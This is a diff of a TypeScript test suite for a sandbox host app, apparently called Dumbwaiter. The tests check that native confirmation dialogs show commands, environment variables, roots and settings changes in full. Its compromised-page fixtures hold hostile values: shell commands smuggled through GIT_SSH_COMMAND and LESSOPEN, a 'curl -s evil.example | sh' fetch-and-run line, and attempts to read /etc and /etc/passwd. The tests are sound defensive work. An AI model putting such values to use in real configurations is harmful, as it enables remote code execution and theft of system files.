@@ -42,15 +42,24 @@ operations:
 
 /** The desktop's dialogs as the person answers them: every native question is recorded, and answered
  *  with `person.answer` (yes, unless a test says otherwise); no folder is picked, no file saved. */
+type Question = { title: string; message: string; detail: string };
 const person = {
   answer: true,
-  asked: [] as { title: string; message: string; detail: string }[],
+  asked: [] as Question[],
 };
 const PERSON: AppEdges = {
   pickFolder: async () => null,
   pickSavePath: async () => null,
   confirm: async ({ title, message, detail }) => (person.asked.push({ title, message, detail }), person.answer),
 };
+
+/** Keeps a native question's text as the person saw it, in test/artifacts/questions/<name>.txt (the
+ *  evidence of what each question shows). */
+function keepQuestion(name: string, q: Question): void {
+  const dir = path.resolve(import.meta.dirname, '../../../artifacts/questions');
+  mkdirSync(dir, { recursive: true });
+  writeFileSync(path.join(dir, `${name}.txt`), `${q.title}\n\n${q.message}\n\n${q.detail}\n`);
+}
 
 /** The preload API on `svc`, with the person above answering native questions. */
 const connect = (svc: HostService, edges: AppEdges | null = PERSON): DumbwaiterApi => connectApp(svc, edges);
@@ -296,8 +305,8 @@ operations:
     expect(refused).toEqual({ ok: false, message: 'Not run: cancelled.', cancelled: true });
     expect(existsSync(path.join(host.root, 'marker-asked'))).toBe(false);
     expect((await dryRuns()).length).toBe(before);
-    expect(asked[0]).toContain(`"${path.join(host.root, 'marker-')}asked"`);
-    expect(asked[0]).toContain(`in ${host.root}`);
+    expect(asked[0]).toContain(`argument 3: "${path.join(host.root, 'marker-')}asked"`);
+    expect(asked[0]).toContain(`in folder: "${host.work}"`);
     answer = true;
     expect(await app.allowlist.dryRun({ text: ops(), op: 'mark', args: { tag: 'asked' } })).toMatchObject({ ok: true, exit_code: 0 });
     expect(existsSync(path.join(host.root, 'marker-asked'))).toBe(true);
@@ -523,8 +532,9 @@ describe('a compromised page', () => {
     expect(asked).toHaveLength(1);
     expect(asked[0]!.message).toBe('Let the sandbox run this command?');
     expect(asked[0]!.detail).toContain('+ shell (new):');
-    expect(asked[0]!.detail).toContain('"/bin/sh" "-c" "{cmd}"');
-    expect(asked[0]!.detail).toContain('approval: never; scope: read');
+    expect(asked[0]!.detail).toContain('program: "/bin/sh"\n        argument 1: "-c"\n        argument 2: "{cmd}"');
+    expect(asked[0]!.detail).toContain('    scope: read\n');
+    expect(asked[0]!.detail).toContain('    approval: never\n');
     expect(readFileSync(path.join(host.home, 'allowlist.yaml'), 'utf8')).toBe(before.text);
     // The sandbox tries it: the daemon knows no such operation, and answers a valid request after.
     host.submit(alice, 'page-shell-1', 'shell', { cmd: 'id' });
@@ -540,10 +550,91 @@ describe('a compromised page', () => {
     const saved = await api.allowlist.save({ text: widened, baseHash: before.hash });
     expect(saved).toMatchObject({ saved: true });
     expect(asked).toHaveLength(1);
-    expect(asked[0]!.detail).toMatch(/~ guarded \(changed: command, template, approval\):\n {4}now: {2}"\/bin\/sh" "-c" "id"\n.*approval: never[\s\S]*was: {2}"true"\n.*approval: always/);
+    expect(asked[0]!.detail).toContain('~ guarded (changed: command, approval):');
+    expect(asked[0]!.detail).toContain('    command:\n        was: program: "true"\n        now:\n            program: "/bin/sh"\n            argument 1: "-c"\n            argument 2: "id"');
+    expect(asked[0]!.detail).toContain('    approval:\n        was: always\n        now: never');
     // Putting it back is a change too: asked again.
     expect(await api.allowlist.save({ text: before.text, baseHash: (saved as { hash: string }).hash })).toMatchObject({ saved: true });
     expect(asked).toHaveLength(2);
+  });
+
+  it('allowlist.dryRun and dryRunReconcile of an operation whose env runs a shell show the environment, every argv element, the folder and the limits; refused, nothing runs', async () => {
+    const asked = ask();
+    const marker = path.join(host.root, 'ssh-command-ran');
+    const current = await api.allowlist.read();
+    const text = `${current.text}  - name: remote-heads
+    command: [git, ls-remote, "{remote}"]
+    env: {GIT_SSH_COMMAND: "sh -c 'touch ${marker}' --"}
+    args:
+      remote: {type: string, pattern: "[a-z@:./-]+"}
+    timeout_s: 20
+    max_output_bytes: 4096
+    reconcile: {command: [git, ls-remote, "{remote}", "refs/tags/{request_id}"], timeout_s: 7}
+    scope: read
+    approval: never
+`;
+    person.answer = false;
+    const args = { remote: 'git@example.com:x.git' };
+    expect(await api.allowlist.dryRun({ text, op: 'remote-heads', args })).toEqual({ ok: false, message: 'Not run: cancelled.', cancelled: true });
+    expect(await api.allowlist.dryRunReconcile({ text, op: 'remote-heads', args })).toEqual({ ok: false, message: 'Not run: cancelled.', cancelled: true });
+    person.answer = true;
+    expect(existsSync(marker)).toBe(false);
+    expect(asked).toHaveLength(2);
+    const [run, check] = asked as [Question, Question];
+    keepQuestion('allowlist-dry-run', run);
+    keepQuestion('allowlist-dry-run-reconcile', check);
+    for (const q of [run, check]) {
+      expect(q.detail).toContain(`environment (added to the host's own): GIT_SSH_COMMAND="sh -c 'touch ${marker}' --"`);
+      expect(q.detail).toContain('program: "git"\nargument 1: "ls-remote"\nargument 2: "git@example.com:x.git"');
+      expect(q.detail).toMatch(/\nin folder: "\/[^"]+"\n/);
+      expect(q.detail).toContain('output kept: 4096 bytes of stdout and of stderr');
+    }
+    expect(run.detail).toContain('timeout: 20 s');
+    expect(check.detail).toContain('argument 3: "refs/tags/dry-run"');
+    expect(check.detail).toContain('timeout: 7 s');
+  });
+
+  it('allowlist.save shows a new operation field by field (env, roots, reconcile command, leaves_processes, spools), and roots widened from the project to /etc and /root as they were and will be', async () => {
+    const asked = ask();
+    const proj = path.join(host.root, 'project');
+    mkdirSync(proj, { recursive: true });
+    const op = (roots: string[]) => `  - name: read-file
+    command: [cat, "{file}"]
+    env: {LESSOPEN: "|sh -c 'id' %s"}
+    args:
+      file: {type: path, within: ${JSON.stringify(roots)}}
+    leaves_processes: true
+    reconcile: {command: [/bin/sh, -c, "curl -s evil.example | sh"], timeout_s: 12}
+    spools: [default]
+    scope: read
+    approval: never
+`;
+    const start = await api.allowlist.read();
+    const added = await api.allowlist.save({ text: start.text + op([proj]), baseHash: start.hash });
+    expect(added).toMatchObject({ saved: true });
+    expect(asked).toHaveLength(1);
+    keepQuestion('allowlist-save-new', asked[0]!);
+    const detail = asked[0]!.detail;
+    expect(detail).toContain('+ read-file (new):');
+    expect(detail).toContain(`    env: LESSOPEN="|sh -c 'id' %s"`);
+    expect(detail).toContain(`    args.file.within: ${JSON.stringify(proj)}`);
+    expect(detail).toContain('    reconcile.command:\n        program: "/bin/sh"\n        argument 1: "-c"\n        argument 2: "curl -s evil.example | sh"');
+    expect(detail).toContain('    reconcile.timeout_s: 12');
+    expect(detail).toContain('    leaves_processes: true');
+    expect(detail).toContain('    spools: "default"');
+
+    // Only the roots change: the question says which, and what they were and will be.
+    const widened = await api.allowlist.read();
+    person.answer = false;
+    const refused = await api.allowlist.save({ text: start.text + op(['/etc', '/root']), baseHash: widened.hash });
+    person.answer = true;
+    expect(refused).toMatchObject({ saved: false, reason: 'cancelled' });
+    keepQuestion('allowlist-save-changed-roots', asked[1]!);
+    expect(asked[1]!.detail).toBe(`~ read-file (changed: args.file.within):\n    args.file.within:\n        was: ${JSON.stringify(proj)}\n        now: "/etc", "/root"\n\nSaved to ${start.path}; the host uses it within a second.`);
+    // Refused, the sandbox cannot read /etc/passwd through it.
+    host.submit(alice, 'page-roots-1', 'read-file', { file: '/etc/passwd' });
+    expect((await host.waitResult('page-roots-1')).state).toBe('rejected');
+    expect(await api.allowlist.save({ text: start.text, baseHash: widened.hash })).toMatchObject({ saved: true });
   });
 
   it('allowlist.save asks nothing for comments, layout or a removed operation, and nothing for a save refused anyway', async () => {
@@ -573,7 +664,7 @@ describe('a compromised page', () => {
     expect(existsSync(path.join(host.root, 'elsewhere'))).toBe(false);
   });
 
-  it('spools.add refuses the file system root, the home, a relative path, a folder with user files, another spool\'s folder and a bad name, asks nothing and touches nothing there', async () => {
+  it('spools.add refuses the file system root, the home, a relative path, another spool\'s folder and a bad name, asks nothing and touches nothing there', async () => {
     const asked = ask();
     const userDir = path.join(host.root, 'user-files');
     mkdirSync(path.join(userDir, 'bin'), { recursive: true, mode: 0o700 });
@@ -587,7 +678,6 @@ describe('a compromised page', () => {
       [home, 'your home folder'],
       ...(path.dirname(home) === '/' ? [] : [[path.dirname(home), 'a folder holding your home folder'] as const]),
       ['../..', 'a folder must be an absolute path'],
-      [userDir, 'it holds files Dumbwaiter did not create'],
       [path.join(host.spool, 'inner'), 'overlaps the folder of spool "default"'],
       [path.join(host.home, 'inside'), 'must not contain each other'],
     ] as const) {
@@ -609,7 +699,91 @@ describe('a compromised page', () => {
     expect((await host.sentinel(alice)).state).toBe('succeeded');
   });
 
-  it("spools.add refuses a folder inside an operation's root (that operation's sandboxes would read its results), naming the operation, and asks nothing", async () => {
+  it('spools.add asks before it looks at the disk: refused by the person, an existing folder, a file, a folder of user files and a missing path get the same answer', async () => {
+    const asked = ask();
+    const userDir = path.join(host.root, 'their-files');
+    mkdirSync(userDir, { recursive: true });
+    writeFileSync(path.join(userDir, 'notes.txt'), 'keep me');
+    const emptyDir = path.join(host.root, 'empty-dir');
+    mkdirSync(emptyDir, { recursive: true });
+    const targets = [userDir, emptyDir, path.join(userDir, 'notes.txt'), '/etc/passwd', path.join(host.root, 'no-such-folder')];
+    person.answer = false;
+    for (const dir of targets) expect(await api.spools.add({ name: 'probe', dir }), dir).toBeNull();
+    person.answer = true;
+    expect(asked.map((q) => q.message)).toEqual(targets.map((dir) => `Share ${dir} with one sandbox as spool probe?`));
+    expect(new Set(asked.map((q) => q.detail)).size).toBe(1);
+    keepQuestion('spools-add', asked[0]!);
+    // Said yes, what is on the disk decides, and the person (who asked for that folder) learns why.
+    await expect(api.spools.add({ name: 'probe', dir: userDir })).rejects.toThrow('it holds files Dumbwaiter did not create');
+    expect(readdirSync(userDir)).toEqual(['notes.txt']);
+    expect(existsSync(path.join(host.root, 'no-such-folder'))).toBe(false);
+    expect((await api.settings.get()).spools).toEqual([{ name: 'default', dir: host.spool }]);
+  });
+
+  it('keys.rotate says the new key keeps the old one\'s spend and its ceilings, with the spend so far against each', async () => {
+    const asked = ask();
+    const ceilings = [
+      { name: 'bob-only', per: 'key' as const, key_id: bob.key_id, window_s: 3600, max_runs: 100, action: 'reject' as const },
+      { name: 'each-key', per: 'key' as const, window_s: 86400, max_cost: 50, action: 'ask' as const },
+      { name: 'alice-only', per: 'key' as const, key_id: alice.key_id, window_s: 3600, max_runs: 5 },
+    ];
+    await api.settings.set({ name: 'ceilings', value: ceilings });
+    person.answer = false;
+    expect(await api.keys.rotate({ keyId: bob.key_id })).toBeNull();
+    keepQuestion('keys-rotate', asked[0]!);
+    expect(asked[0]!.message).toBe(`Replace key ${bob.key_id} ("bob") with a new one?`);
+    const runs = svc.listKeys().find((k) => k.key_id === bob.key_id)!.requests;
+    expect(runs).toBeGreaterThan(0);
+    expect(asked[0]!.detail).toContain("It keeps the old key's spend so far and its spend ceilings (those pinned to the old key id are pinned to the new one):");
+    expect(asked[0]!.detail).toContain('  bob-only (this key, per 3600 s, reject): ');
+    expect(asked[0]!.detail).toMatch(/ {2}bob-only \(this key, per 3600 s, reject\): [1-9]\d* of 100 runs used\n {2}each-key \(each key, per 86400 s, ask\): 0 of 50 cost units used$/);
+    expect(asked[0]!.detail).not.toContain('alice-only');
+    person.answer = true;
+    expect(svc.listKeys().find((k) => k.key_id === bob.key_id)!.revoked_at).toBeNull();
+    await api.settings.set({ name: 'ceilings', value: [] });
+  });
+
+  it('settings that let more run, or with less oversight or trace, ask natively; the other direction does not', async () => {
+    const asked = ask();
+    const s0 = await api.settings.get();
+    const loosening: [string, unknown][] = [
+      ['approval_timeout_s', s0.approval_timeout_s * 4],
+      ['max_request_age_s', s0.max_request_age_s * 2],
+      ['retention_ledger_days', 30],
+      ['retention_spool_days', s0.retention_spool_days * 10],
+      ['notifications', false],
+      ['kill_grace_s', s0.kill_grace_s + 60],
+      ['shutdown_grace_s', s0.shutdown_grace_s + 60],
+      ['max_concurrent_runs', s0.max_concurrent_runs + 4],
+    ];
+    person.answer = false;
+    for (const [name, value] of loosening) await expect(api.settings.set({ name, value }), name).rejects.toThrow('Not changed: cancelled.');
+    person.answer = true;
+    expect(await api.settings.get()).toEqual(s0);
+    expect(asked.map((q) => q.message)).toEqual(loosening.map(([name]) => `Change ${name}?`));
+    expect(asked[0]!.detail).toBe(`approval_timeout_s: ${s0.approval_timeout_s * 4} (now ${s0.approval_timeout_s})\n\nA request waits longer for approval before it is denied: it can be approved long after it was made.`);
+    keepQuestion('settings-approval-timeout', asked[0]!);
+    keepQuestion('settings-notifications-off', asked[4]!);
+    keepQuestion('settings-ledger-retention', asked[2]!);
+    // Tightening asks nothing (and is done), as does putting each back.
+    asked.length = 0;
+    const tightening: [string, unknown][] = [
+      ['approval_timeout_s', 600],
+      ['max_request_age_s', 3600],
+      ['retention_ledger_days', 365],
+      ['retention_spool_days', 1],
+      ['kill_grace_s', 1],
+      ['shutdown_grace_s', 1],
+      ['max_concurrent_runs', 1],
+      ['rescan_interval_ms', 500],
+    ];
+    for (const [name, value] of tightening) expect((await api.settings.set({ name, value }))[name as keyof typeof s0], name).toEqual(value);
+    expect(asked).toEqual([]);
+    for (const [name] of tightening) await api.settings.set({ name, value: s0[name as keyof typeof s0] });
+    expect(await api.settings.get()).toEqual(s0);
+  });
+
+  it("spools.add refuses a folder inside an operation's root (that operation's sandboxes would read its results), naming the operation, once the person said yes (links there are the disk's)", async () => {
     const asked = ask();
     const proj = path.join(host.root, 'proj');
     mkdirSync(proj, { recursive: true });
@@ -619,7 +793,7 @@ describe('a compromised page', () => {
     } finally {
       host.writeAllowlist(ALLOWLIST);
     }
-    expect(asked).toEqual([]);
+    expect(asked.map((q) => q.title)).toEqual(['Add a spool']);
     expect(existsSync(path.join(proj, 'extra'))).toBe(false);
     expect((await api.settings.get()).spools).toEqual([{ name: 'default', dir: host.spool }]);
     expect((await host.sentinel(alice)).state).toBe('succeeded');
@@ -632,7 +806,11 @@ describe('a compromised page', () => {
     expect(await api.keys.create({ name: 'page-made', scope: 'write' })).toBeNull();
     expect(await api.keys.rotate({ keyId: alice.key_id })).toBeNull();
     person.answer = true;
-    expect(asked.map((q) => q.message)).toEqual(['Create a write key "page-made" for spool default?', `Replace key ${alice.key_id} with a new one?`]);
+    expect(asked.map((q) => q.message)).toEqual(['Create a write key "page-made" for spool default?', `Replace key ${alice.key_id} ("alice") with a new one?`]);
+    // Each says what it decides: what the key may call, through which spool.
+    expect(asked[0]!.detail).toBe(`Whoever holds its key file may call every operation of scope read or write (those that ask for approval still ask), through the spool at ${host.spool} only.`);
+    expect(asked[1]!.detail).toContain(`The new key is a read key for spool default. Whoever holds its key file may call every operation of scope read (those that ask for approval still ask), through the spool at ${host.spool} only.`);
+    keepQuestion('keys-create', asked[0]!);
     expect(svc.listKeys()).toEqual(keysBefore);
     expect((await host.sentinel(alice)).state).toBe('succeeded'); // alice still works
   });
@@ -796,8 +974,8 @@ operations:
       expect(refused).toEqual({ ok: false, message: 'Not run: cancelled.', cancelled: true });
       expect(asked).toHaveLength(1);
       expect(asked[0]!.message).toBe('Run the reconcile command of touchy now, on this computer?');
-      expect(asked[0]!.detail).toContain(`"${file('reconciled-')}asked-dry-run"`);
-      expect(asked[0]!.detail).toContain(`in ${crashHost.work}`);
+      expect(asked[0]!.detail).toContain(`argument 3: "${file('reconciled-')}asked-dry-run"`);
+      expect(asked[0]!.detail).toContain(`in folder: "${crashHost.work}"`);
       expect(asked[0]!.detail).toContain('stand-in request id "dry-run"');
       expect(existsSync(file('reconciled-asked-dry-run'))).toBe(false);
       expect(dryRuns().length).toBe(before);
